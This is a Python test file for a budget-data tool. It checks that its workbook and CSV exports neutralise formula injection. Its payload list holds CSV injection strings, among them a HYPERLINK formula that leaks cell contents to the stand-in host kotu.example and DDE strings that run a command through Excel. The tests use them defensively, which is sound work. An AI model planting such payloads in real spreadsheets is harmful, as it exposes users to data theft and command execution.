"""No formula injection on any path that writes a spreadsheet or a CSV meant for one."""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import pytest
from adversarial_helpers import balanced, cli, write_csv

from gcdb import paths
from gcdb.cli.export import FORMULA_STARTS, neutralise
from gcdb.read import read_budget

PAYLOADS = [
    '=HYPERLINK("http://kotu.example/?x="&A1,"tıkla")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",  # full-width equals sign
]
RULES = paths.rules() / "ibb_yeep_2021_budget.yaml"


def _budget(tmp_path, payload: str):
    return write_csv(tmp_path / "b.csv", "budget", [{}, {"Açıklama": payload}], sep=";")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_tag_workbook_keeps_formula_text_as_text(tmp_path, payload):
    path = _budget(tmp_path, payload)
    out = tmp_path / "tagged.xlsx"
    run = cli("tag", "--rules", RULES, "--in", path, "--out", out)
    assert run.code == 0, run.text
    book = openpyxl.load_workbook(out)  # not data_only: a formula would show as one
    ws = book["rows"]
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=3, column=header.index("description") + 1)
    assert cell.data_type == "s" and cell.value == payload.strip()
    assert cell.quotePrefix  # stays text even when someone edits the cell
    assert not any(c.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for c in row)
    balanced(read_budget(path), 2)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_tag_csv_neutralises_formulas(tmp_path, payload):
    path = _budget(tmp_path, payload)
    out = tmp_path / "tagged.csv"
    run = cli("tag", "--rules", RULES, "--in", path, "--out", out)
    assert run.code == 0, run.text
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[1]["description"] == "'" + payload.strip()
    for row in rows:
        assert not any(str(v).startswith(FORMULA_STARTS) for v in row.values())
    balanced(read_budget(path), 2)


@pytest.mark.parametrize("payload", PAYLOADS[1:5])
def test_issues_out_csv_neutralises_the_raw_values(tmp_path, payload):
    path = write_csv(tmp_path / "b.csv", "budget", [{}, {"Harcama": payload}])
    out = tmp_path / "issues.csv"
    run = cli("validate", "budget", path, "--issues-out", out)
    assert run.code == 1 and "b.csv:3 [Harcama]" in run.out
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a CSV for Excel
    issues = pd.read_csv(out, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert issues["value"].tolist() == ["'" + payload]
    assert not issues.apply(lambda c: c.str.startswith(FORMULA_STARTS)).any().any()
    balanced(read_budget(path), 2)


def test_neutralise_leaves_ordinary_text_and_numbers_alone():
    values = pd.Series(["KADIN EVİ", "=1", "－1", "a=b", None], dtype="str")
    assert neutralise(values).tolist()[:4] == ["KADIN EVİ", "'=1", "'－1", "a=b"]
    assert pd.isna(neutralise(values).iloc[4])
    numbers = pd.Series([-5, 3])
    assert neutralise(numbers) is numbers  # a negative number is a number, not a formula


def test_tag_coverage_workbook_and_tags_are_formula_safe(tmp_path):
    path = _budget(tmp_path, PAYLOADS[0])
    tags, coverage = tmp_path / "tags.xlsx", tmp_path / "coverage.xlsx"
    run = cli(
        "tag",
        "--rules",
        RULES,
        "--in",
        path,
        "--out",
        tmp_path / "o.parquet",
        "--tags",
        tags,
        "--coverage",
        coverage,
    )
    assert run.code == 0, run.text
    for out in (tags, coverage):
        book = openpyxl.load_workbook(out)
        assert not any(c.data_type == "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
    written = pd.read_parquet(tmp_path / "o.parquet")
    assert written["description"].iloc[1] == PAYLOADS[0]  # data files for programs keep the text exact
    balanced(read_budget(path), 2)
